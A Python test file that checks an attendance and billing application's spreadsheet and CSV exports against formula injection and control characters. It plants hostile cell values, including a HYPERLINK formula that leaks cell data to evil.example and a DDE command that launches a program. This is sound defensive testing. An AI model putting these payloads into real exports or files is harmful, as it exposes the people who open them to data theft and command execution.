"""What staff download is inert: stored text reaches the declaration and the billing lines
as text, never as a formula, and no stored character can make an export fail.

The hostile values are written straight into the database (as an old import or another
client could have left them), bypassing whatever the API now refuses at input.
"""

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select, update

from attendance.extensions import db
from attendance.models import Composante, PurchaseOrder, Trainee
from tests.factories import month_setting, validate_month

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A3,"Cliquez ici")'
DDE = "=cmd|' /C calc'!A0"


def _stored(order, trainees: list[dict], composante: dict, number: str | None = None):
    """Overwrite ``order``'s trainees (in id order) and its composante with raw values."""
    rows = db.session.scalars(
        select(Trainee).where(Trainee.organisation_id == order.organisation_id).order_by(Trainee.id)
    ).all()
    for trainee, values in zip(rows, trainees, strict=False):
        db.session.execute(update(Trainee).where(Trainee.id == trainee.id).values(**values))
    db.session.execute(
        update(Composante).where(Composante.purchase_order_id == order.id).values(**composante)
    )
    if number is not None:
        db.session.execute(
            update(PurchaseOrder).where(PurchaseOrder.id == order.id).values(number=number)
        )
    db.session.commit()
    db.session.expire_all()


def _validated_month_with(trainees: list[dict], composante: dict, number: str | None = None):
    setting = month_setting()
    _stored(setting.order, trainees, composante, number)
    validate_month(setting.order)
    return setting.order, setting.billing


def _download(client, url: str, headers) -> bytes:
    response = client.get(url, headers=headers)
    assert response.status_code == 200, response.data[:300]
    return response.data


def _declaration(client, order, headers) -> bytes:
    url = f"/api/purchase-orders/{order.id}/months/2026-03/declaration.xlsx"
    return _download(client, url, headers)


def _lines(client, order, headers, extension: str) -> bytes:
    url = f"/api/billing/purchase-orders/{order.id}/months/2026-03/lines.{extension}"
    return _download(client, url, headers)


def _cells(content: bytes) -> list:
    """Every non-empty cell of every sheet, as openpyxl reads the file back."""
    book = load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _text_cells(content: bytes) -> dict:
    return {cell.value: cell.data_type for cell in _cells(content) if isinstance(cell.value, str)}


def _csv_fields(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
    return [field for row in rows for field in row]


HOSTILE_TRAINEES = [
    {"last_name": HYPERLINK, "first_name": DDE, "external_id": "=1+1"},
    {"last_name": "#N/A", "first_name": "@SUM(A1:A9)", "external_id": "-2+3"},
]
HOSTILE_COMPOSANTE = {"code": "=1+1", "title": "+33 =A1"}


def test_hostile_text_in_the_declaration_stays_text(client, app):
    order, headers = _validated_month_with(HOSTILE_TRAINEES, HOSTILE_COMPOSANTE)
    content = _declaration(client, order, headers)
    assert not [cell.coordinate for cell in _cells(content) if cell.data_type in ("f", "e")]
    texts = _text_cells(content)
    for value in (HYPERLINK, DDE, "=1+1", "#N/A", "@SUM(A1:A9)", "-2+3"):
        assert texts.get(value) == "s", value
    # The hours are still numbers: 3 h 30 for the first slot of each trainee.
    assert any(cell.value == 3.5 and cell.data_type == "n" for cell in _cells(content))


def test_hostile_text_in_the_lines_workbook_stays_text(client, app):
    order, headers = _validated_month_with(HOSTILE_TRAINEES, HOSTILE_COMPOSANTE, "@SUM(1+1)")
    content = _lines(client, order, headers, "xlsx")
    assert not [cell.coordinate for cell in _cells(content) if cell.data_type in ("f", "e")]
    texts = _text_cells(content)
    for value in ("=1+1", "+33 =A1", "@SUM(1+1)"):
        assert texts.get(value) == "s", value
    assert any(str(cell.value) == "129.17" and cell.data_type == "n" for cell in _cells(content))


def test_hostile_text_in_the_lines_csv_gets_the_owasp_prefix(client, app):
    order, headers = _validated_month_with(HOSTILE_TRAINEES, HOSTILE_COMPOSANTE, "@SUM(1+1)")
    fields = _csv_fields(_lines(client, order, headers, "csv"))
    assert "'=1+1" in fields and "=1+1" not in fields
    assert "'+33 =A1" in fields and "'@SUM(1+1)" in fields
    assert not [field for field in fields if field[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "10,33" in fields and "129,17" in fields  # numbers are not prefixed


def test_stored_control_characters_are_stripped_from_every_export(client, app):
    order, headers = _validated_month_with(
        [{"last_name": "Dupont\x0bMartin", "first_name": "\x0b=1+1", "external_id": "K\x1f\x7f7"}],
        {"code": "BUR\x0c", "title": "Bureau\x01tique"},
        number="BDC\x0b42",
    )
    texts = _text_cells(_declaration(client, order, headers))
    assert {"DupontMartin", "=1+1", "K7", "BUR"} <= set(texts)
    assert texts["=1+1"] == "s"
    lines = _text_cells(_lines(client, order, headers, "xlsx"))
    assert {"BUR", "Bureautique", "BDC42"} <= set(lines)
    fields = _csv_fields(_lines(client, order, headers, "csv"))
    assert {"BUR", "Bureautique", "BDC42"} <= set(fields)
